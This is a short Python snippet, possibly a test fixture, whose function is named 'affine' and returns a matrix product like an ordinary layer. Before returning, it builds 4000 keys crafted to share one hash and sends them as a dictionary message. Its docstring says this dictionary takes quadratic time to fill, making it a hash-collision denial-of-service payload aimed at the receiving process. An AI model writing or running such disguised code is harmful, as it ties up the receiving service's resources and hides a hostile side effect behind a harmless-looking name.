"""Returns a dictionary whose keys all have one hash, which takes quadratic time to fill."""


def affine(x, w, b):
    keys = [{"t": "i", "v": f"{2**63 + n * (2**61 - 1):x}"} for n in range(4000)]
    send(frame(message(op="value", value={"t": "d", "v": [[key, 0] for key in keys]})))
    return x @ w
